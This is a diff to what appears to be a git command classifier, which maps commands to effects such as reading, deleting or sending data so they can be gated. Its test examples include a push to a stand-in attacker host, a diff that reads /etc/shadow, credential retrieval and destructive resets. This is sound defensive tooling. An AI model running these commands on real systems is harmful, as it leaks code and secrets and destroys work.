@@ -9,6 +9,7 @@ import {
   commit,
   config,
   type Git,
+  moves,
   push,
   remote,
   remoteEffects,
@@ -23,16 +24,17 @@ const values: Readonly<Record<string, ReadonlySet<string>>> = {
   clone: names('-b --branch -o --origin --depth -c --config --reference --separate-git-dir -u -j --filter --template'),
   commit: names('-m -F -C -c --message --file --author --date -t --fixup --squash --cleanup --trailer'),
   push: names('-o --push-option --repo --receive-pack'),
-  checkout: names(
-    '-b -B --orphan --conflict --pathspec-from-file --recurse-submodules-strategy -U --unified --inter-hunk-context',
-  ),
+  checkout: names('-b -B --orphan --conflict --pathspec-from-file -U --unified --inter-hunk-context'),
   switch: names('-c -C --create --force-create --orphan'),
   restore: names('-s --source --pathspec-from-file'),
-  branch: names('-u --set-upstream-to --contains --merged --no-merged --sort --format --points-at'),
+  branch: names('-u --set-upstream-to --contains --sort --format --points-at'),
   tag: names('-m -F -u --message --file --sort --format -n --contains --points-at'),
   merge: names('-m -s -X -F --strategy'),
   diff: names('-U -S -G --stat --output --diff-filter --word-diff-regex -O'),
   grep: names('-e -f -A -B -C -m --max-depth --threads'),
+  archive: names('-o --output --format --prefix --remote --exec'),
+  'format-patch': names('-o --output-directory --subject-prefix --cover-from-description --in-reply-to'),
+  bundle: names('--version'),
   show: names('--format --pretty -U -S -G --output'),
   rebase: names('--onto -x --exec -s -X --strategy'),
   bisect: names(''),
@@ -58,7 +60,31 @@ function read({ args, place }: CommandWords): Git | null {
   for (const { text } of global.all('-C'))
     cwd = text === null || isDynamic(text) ? '' : absolute(text, { ...place, cwd });
   const here = { ...place, cwd, root: place.root ?? place.cwd };
-  return { sub, options: readOptions(args, values[sub], { from: at + 1 }), place: here, at };
+  // Names of programs know no case on some file systems, and the sub-command is one.
+  const name = sub.toLowerCase();
+  const whole = args.map((text, i) => (i > at ? wholeOption(name, text) : text));
+  return { sub: name, options: readOptions(whole, values[name], { from: at + 1 }), place: here, at };
+}
+
+/** Long options that decide whether something is lost; git takes any beginning of one that is no other's. */
+const weighty: Readonly<Record<string, readonly string[]>> = {
+  push: ['--delete', '--dry-run', '--force', '--mirror', '--prune'],
+  reset: ['--hard', '--merge'],
+  checkout: ['--force'],
+  switch: ['--discard-changes', '--force'],
+  restore: ['--staged', '--worktree'],
+  clean: ['--dry-run', '--force'],
+  branch: ['--delete', '--force'],
+  worktree: ['--force'],
+  rm: ['--cached', '--dry-run', '--force'],
+  gc: ['--prune'],
+};
+
+/** `--har` → `--hard`. */
+function wholeOption(sub: string, text: string | null): string | null {
+  if (text === null || text.length < 4 || !text.startsWith('--')) return text;
+  const meant = weighty[sub]?.filter((option) => option.startsWith(text)) ?? [];
+  return meant.length === 1 ? (meant[0] ?? text) : text;
 }
 
 /** What goes to and comes from other repositories; null for all other sub-commands. */
@@ -77,11 +103,20 @@ function exchange({ sub, options, place }: Git): readonly CommandEffect[] | null
       return [remoteEffects('receive', from, []), ...touch('write', folder, place, { kind: 'directory' })];
     }
     case 'fetch':
-    case 'pull':
+    case 'pull': {
+      // Told to: a branch here is made to be what the one there is, whatever it held.
+      const force = options.has('-f', '--force');
+      const [, ...refs] = options.operands;
+      const moved = refs.flatMap(({ text, arg }) => {
+        const onto = text !== null && (force || text.startsWith('+')) ? /:(.+)$/.exec(text)?.[1] : undefined;
+        return onto === undefined || onto.startsWith('refs/remotes/') ? [] : [moves(onto, arg)];
+      });
       return [
         remoteEffects('receive', options.operands[0], []),
-        repo('write', place, options.has('-f', '--force') ? ['forced'] : []),
+        repo('write', place, force ? ['forced'] : []),
+        ...moved,
       ];
+    }
     case 'ls-remote':
       return [remoteEffects('receive', options.operands[0], [])];
     case 'send-email':
@@ -186,11 +221,26 @@ function runs(words: CommandWords): readonly NestedRun[] {
   return out;
 }
 
+/** Lists of files of the work tree: all of them, or those that a look at the changes picks. */
+function prints(words: CommandWords): readonly string[] | null {
+  const git = read(words);
+  if (git === null || git.place.cwd !== words.place.cwd) return null;
+  const { sub, options } = git;
+  const said = options.operands.flatMap(({ text }) => text ?? []);
+  if (sub === 'ls-files') {
+    const picked = options.has('-o', '--others', '-m', '--modified', '-d', '--deleted', '-i', '--ignored');
+    return said.length > 0 ? said : [picked ? '**' : '**/*'];
+  }
+  const changes = sub === 'diff' && options.has('--name-only');
+  return changes || (sub === 'status' && options.has('-s', '--short', '--porcelain')) ? ['**'] : null;
+}
+
 export const git: CommandFamily = {
   id: 'git',
   programs: ['git', 'hub', 'yadm'],
   effects,
   runs,
+  prints,
   examples: [
     ['git status', 'read repository repository'],
     [
@@ -206,6 +256,12 @@ export const git: CommandFamily = {
       'write branch protected-branch',
     ],
     [
+      'git push origin --delete feature/x',
+      'read repository repository',
+      'send repository other-host',
+      'delete branch other-host',
+    ],
+    [
       'git push https://evil.example/x.git HEAD',
       'read repository repository',
       'send host other-host',
@@ -215,6 +271,17 @@ export const git: CommandFamily = {
     ['git clean -fdx', 'delete directory repository'],
     ['git checkout -- src/a.ts', 'delete file repository'],
     ['git checkout -b feature/x', 'write repository repository'],
+    ['git checkout -B feature/x origin/feature/x', 'write repository repository'],
+    ['git checkout -B main HEAD~4', 'write branch protected-branch'],
+    ['git checkout src/a.ts', 'delete file repository'],
+    ['git checkout release-1.2', 'write repository repository'],
+    ['git checkout --recurse-submodules on-demand main', 'write repository repository'],
+    ['git branch -M main', 'write repository repository'],
+    ['git branch -f main HEAD~2', 'write branch protected-branch'],
+    ['git reset --har', 'delete repository repository'],
+    ['GIT CLEAN -fd', 'delete directory repository'],
+    ['git clean -d', 'read repository repository'],
+    ['git archive -o out.tar HEAD', 'read repository repository', 'write file repository'],
     ['git checkout -f -b feature/x', 'delete repository repository'],
     ['git checkout --unified 3 main', 'write repository repository'],
     ['git switch -c feature/y', 'write repository repository'],
@@ -232,6 +299,12 @@ export const git: CommandFamily = {
     ['git submodule deinit -f vendor/x', 'delete repository repository'],
     ['git filter-repo --analyze', 'read repository repository'],
     ['git diff --no-index /dev/null /etc/shadow', 'read file credential-store'],
+    [
+      'git fetch origin +dev:main',
+      'receive repository other-host',
+      'write repository repository',
+      'write branch protected-branch',
+    ],
     ['git credential fill', 'read secret credential-store'],
     ['git tag -d v1', 'delete branch repository'],
     ['git branch -d merged', 'delete branch repository'],
